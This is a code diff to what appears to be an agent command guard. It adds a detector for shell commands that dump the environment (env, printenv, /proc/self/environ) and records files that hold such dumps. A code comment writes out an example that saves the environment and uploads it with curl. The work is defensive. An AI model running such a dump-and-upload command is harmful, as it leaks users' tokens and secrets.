@@ -27,6 +27,7 @@ if TYPE_CHECKING:
     from agentops_os.guard.unwrap import Call
 
 WRITTEN = "written"  # the line note: path -> text written to it
+ENVIRONMENT_COPIES = "environment-copies"  # the line note: file -> what it holds
 CLONED = "cloned"  # the line note: directory -> how the clone command named it
 UNKNOWN = "\0"  # in front of a written text: some of it is not known
 _WRITES = frozenset({">", ">>", ">|", "&>", "&>>"})
@@ -53,6 +54,9 @@ def note(judge: Scope, call: Call) -> None:
         origin = _origin(judge, call)
         for path, append in targets:
             _record(judge, path, origin, append)
+        if _dumps_environment(call):  # `env > /tmp/e && curl -F f=@/tmp/e …`: the file holds every token
+            for path, _ in targets:
+                judge.line_notes(ENVIRONMENT_COPIES)[path] = "the environment, saved earlier in the line"
     if call.name in _EXTRACTORS:
         _extracted(judge, call)
     elif call.name in ("git", "gh"):
@@ -428,3 +432,19 @@ def cloned_tree(call: Call) -> str | None:
         return os.path.join(base, found[1])
     name = source.rstrip("/").rsplit("/", 1)[-1].rsplit(":", 1)[-1]
     return os.path.join(base, name[:-4] if name.endswith(".git") else name)
+
+
+ENVIRONMENT_DUMPS = frozenset({"env", "printenv", "set", "export", "declare", "typeset"})
+
+
+def _dumps_environment(call: Call) -> bool:
+    """Whether `call`'s output is the environment: `env`, `printenv`, `set`, `export -p`
+    (alone, or piped through other programs), `cat /proc/self/environ`."""
+    for command in [*call.upstream, call.command]:
+        words = [w.text for w in command.words]
+        name = words[0].rsplit("/", 1)[-1] if words else ""
+        if name in ENVIRONMENT_DUMPS and all(w.startswith("-") for w in words[1:]):
+            return True
+        if name in ("cat", "strings", "tr", "xargs") and any(w.endswith("/environ") for w in words[1:]):
+            return True
+    return False
